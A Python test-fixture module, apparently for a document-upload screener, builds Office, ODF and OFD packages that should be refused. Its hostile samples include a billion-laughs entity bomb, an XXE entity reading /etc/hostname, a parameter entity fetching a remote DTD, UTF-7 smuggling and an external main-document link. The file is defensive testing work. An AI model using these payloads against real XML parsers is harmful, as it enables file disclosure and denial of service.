"""Packages of the wrong kind, and XML that asks for more than it may."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from tests.screening.samples import (
    MAIN_PARTS,
    PACKAGES,
    content_types,
    docx_parts,
    ods_parts,
    old_office,
    relations,
    xlsx_parts,
    zipped,
)

Maker = Callable[[], bytes]

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml."
_MS = "application/vnd.ms-"

_KINDS = {
    "DOCM": (docx_parts, f"{_MS}word.document.macroEnabled.main+xml"),
    "DOTX": (docx_parts, f"{_WORD}template.main+xml"),
    "DOTM": (docx_parts, f"{_MS}word.template.macroEnabledTemplate.main+xml"),
    "XLSM": (xlsx_parts, f"{_MS}excel.sheet.macroEnabled.main+xml"),
    "XLTX": (xlsx_parts, f"{_SHEET}template.main+xml"),
    "XLAM": (xlsx_parts, f"{_MS}excel.addin.macroEnabled.main+xml"),
    "XLSB": (xlsx_parts, f"{_MS}excel.sheet.binary.macroEnabled.main"),
    "PPTX": (
        docx_parts,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    "VSDX": (docx_parts, f"{_MS}visio.drawing.main+xml"),
    "未知的类型": (docx_parts, "application/x-unknown+xml"),
}

_MORE_PARTS: dict[str, tuple[str, str, bytes]] = {
    "DOCX 里藏有宏": ("docx", "word/vbaProject.bin", old_office("VBA", "PROJECT")),
    "XLSX 里藏有宏": ("xlsx", "xl/vbaProject.bin", old_office("VBA", "PROJECT")),
    "XLSX 里藏有旧式宏表": ("xlsx", "xl/macrosheets/sheet1.xml", b"<a/>"),
    "DOCX 里藏有控件": ("docx", "word/activeX/activeX1.bin", b"x"),
    "DOCX 同时是 OFD": ("docx", "OFD.xml", b"<a/>"),
    "DOCX 同时是 ODS": ("docx", "mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
    "ODS 同时是 OFD": ("ods", "OFD.xml", b"<a/>"),
}

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "哈">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><a>&l9;</a>"
).encode()
_FETCHES = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
)
_PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "http://198.51.100.7/x.dtd">%x;]><a/>'
)
_DEEP = b"<a>" * 5000 + b"</a>" * 5000
_UTF_7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>'

# Bytes put in place of one part.
BAD_XML: dict[str, bytes] = {
    "实体炸弹": LAUGHS,
    "外部实体": _FETCHES,
    "参数实体": _PARAMETER,
    "UTF-16 的实体炸弹": LAUGHS.decode().encode("utf-16"),
    "UTF-7": _UTF_7,
    "嵌套过深": _DEEP,
    "属性过大": b'<a b="' + bytes(range(48, 58)) * 1_100_000 + b'"/>',
    "不是 XML": b"not xml at all",
    "没有写完": b"<a><b>",
    "不合规的 UTF-8": b'<?xml version="1.0" encoding="UTF-8"?><a>\xff\xfe\xc3</a>',
    "空的": b"",
    "标签过多": b"<a>" + b"<b/>" * 2_100_000 + b"</a>",
}


def _as_kind(make: Callable[..., dict[str, bytes]], kind: str) -> bytes:
    return zipped(make(kind=kind))


def _replaced(kind: str, part: str, content: bytes) -> bytes:
    return zipped({**PACKAGES[kind](), part: content})


def _without(kind: str, part: str) -> bytes:
    return zipped({name: held for name, held in PACKAGES[kind]().items() if name != part})


def _open_document(mimetype: str) -> bytes:
    return zipped({**ods_parts(), "mimetype": mimetype.encode()})


def _two_bodies() -> bytes:
    both = relations(("officeDocument", "word/document.xml"), ("officeDocument", "word/styles.xml"))
    return zipped({**docx_parts(), "_rels/.rels": both})


def _leading_outside() -> bytes:
    outside = relations(("officeDocument", "http://198.51.100.7/document.xml")).replace(
        b"/>", b' TargetMode="External"/>'
    )
    return zipped({**docx_parts(), "_rels/.rels": outside})


REFUSED: dict[str, Maker] = {
    name: partial(_as_kind, make, kind) for name, (make, kind) in _KINDS.items()
}
REFUSED |= {
    name: partial(_replaced, kind, part, content)
    for name, (kind, part, content) in _MORE_PARTS.items()
}
REFUSED |= {
    f"{kind} 的正文：{what}": partial(_replaced, kind, part, content)
    for kind, part in MAIN_PARTS.items()
    for what, content in BAD_XML.items()
}
REFUSED |= {
    f"{kind} 的 {part}：实体炸弹": partial(_replaced, kind, part, LAUGHS)
    for kind in MAIN_PARTS
    for part in PACKAGES[kind]()
    if part not in ("mimetype", MAIN_PARTS[kind])
}
REFUSED |= {
    f"{kind} 没有正文": partial(_without, kind, part)
    for kind, part in MAIN_PARTS.items()
    if kind != "ofd"  # without it, it is a plain zip
}
REFUSED |= {
    "DOCX 没有关系部分": lambda: _without("docx", "_rels/.rels"),
    "XLSX 没有关系部分": lambda: _without("xlsx", "_rels/.rels"),
    "DOCX 有两个正文": _two_bodies,
    "DOCX 的正文在网上": _leading_outside,
    "OFD 的文档不在文件里": lambda: _without("ofd", "Doc_0/Document.xml"),
    "ODT": lambda: _open_document("application/vnd.oasis.opendocument.text"),
    "ODP": lambda: _open_document("application/vnd.oasis.opendocument.presentation"),
    "ODG": lambda: _open_document("application/vnd.oasis.opendocument.graphics"),
    "EPUB": lambda: _open_document("application/epub+zip"),
    "类型说明过长": lambda: _open_document("application/" + "x" * 5000),
    "类型说明不是文字": lambda: zipped({**ods_parts(), "mimetype": b"\xff\xfe\0"}),
    "加密的 ODS": lambda: _replaced(
        "ods", "META-INF/manifest.xml",
        b'<m xmlns:manifest="x"><manifest:encryption-data/></m>',
    ),
    "XPS": lambda: zipped({"FixedDocSeq.fdseq": b"<a/>"}),
    "类型表里没有类型": lambda: _replaced("docx", "[Content_Types].xml", content_types("a", "b")),
}  # fmt: skip
